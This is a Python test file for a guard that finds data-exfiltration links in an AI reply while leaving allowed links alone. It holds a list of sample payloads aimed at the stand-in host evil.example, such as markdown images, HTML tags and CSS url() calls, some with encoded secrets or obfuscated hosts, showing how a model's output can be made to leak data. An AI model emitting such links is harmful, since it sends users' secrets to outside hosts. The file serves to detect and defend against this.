"""Links that would carry data away are found however they are written, and other links are left."""

import pytest

from headgate.core.guard import Asked, Passage
from headgate.stages.guards.exfiltration import Exfiltration, ExfiltrationSettings
from together import together

GUARD = Exfiltration(ExfiltrationSettings(hosts=["example.com", "*.good.example"]))


def found(text, guard=GUARD):
    return [text[each.start : each.end] for each in guard.look([Passage(text, "reply")], Asked())]


@together(
    "link",
    [
        "![](https://evil.example/x.png)",
        "![a picture](<http://evil.example/a?q=secret> 'title')",
        "![x](//evil.example/y)",
        "![x](https://example.com@evil.example/y)",
        "![x](https:\\\\evil.example\\y)",
        "![x](https://example.com.evil.example/y)",
        "![x](HTTPS://EVIL.example/y)",
        "<img src='https://evil.example/a'>",
        '<img alt="a" width=1 src=https://evil.example/a>',
        '<iframe src="https://evil.example"></iframe>'[:-9],
        '<meta http-equiv="refresh" content="0; url=https://evil.example/?d=1">',
        '<a href="https://evil.example/?q=the-password-is-flower">'[9:-2],
        "url('https://evil.example/a.png')",
        "[1]: https://evil.example/pic.png",
        "https://evil.example/collect?d=the-password-is-flower",
        "https://evil.example/c/VGhlIHBhc3N3b3JkIGlzIGZsb3dlcg==",
        "https://dGhlLXBhc3N3b3JkLWlzLWZsb3dlci1hbmQtbW9yZS1vZi1pdA.evil.example/",
    ],
)
def test_what_carries_data_away_is_found(link):
    assert found(f"See\n{link}\n for more")[0].strip() == link


@together(
    "text",
    [
        "![logo](https://example.com/logo.png)",
        "![logo](https://cdn.good.example/logo.png?v=1234567890123)",
        "![local](/images/a.png) and ![data](data:image/png;base64,AAAA)",
        "Read [the manual](https://other.example/docs/intro) or https://other.example/a/b.html",
        "a // comment and 1 // 2, C:\\\\dir",
        "<p>no link</p>",
    ],
)
def test_other_links_are_left(text):
    assert found(text) == []


def test_which_links_are_found_can_be_said():
    text = "see https://other.example/docs"
    assert found(text, Exfiltration(ExfiltrationSettings(links="all"))) == ["https://other.example/docs"]
    carrying = "see https://other.example/?q=0123456789abcdef"
    assert found(carrying, Exfiltration(ExfiltrationSettings(links="none"))) == []
    with pytest.raises(ValueError, match="is no host"):
        Exfiltration(ExfiltrationSettings(hosts=["https://example.com"]))


@together(
    "text",
    [
        "![](https://evil.example/?q=abc",
        "<img src=https://evil.example/a",
        "see https://evil.example/?data=abcdefgh",
        "[1]: https://evil.example/x",
    ],
)
def test_of_a_stream_a_link_that_is_not_over_is_held_back(text):
    for length in range(1, len(text) + 1):
        assert GUARD.clear("so: \n" + text[:length]) <= 5 or text[:length] in "see " or text.startswith("see"), length
    assert GUARD.clear("Nothing of that kind here.") == 26
    assert GUARD.clear("a link https://evil.example/abc and more text") == 45
    assert GUARD.clear("see https://evil.example/ab") == 4


@pytest.mark.parametrize("piece", ["![", "[a](", "<img ", "https://", "<", "url(", "![](//a", "[a]: //"])
def test_long_texts_take_time_in_proportion(piece):
    text = piece * (20_000 // len(piece))
    found(text)
    GUARD.clear(text)
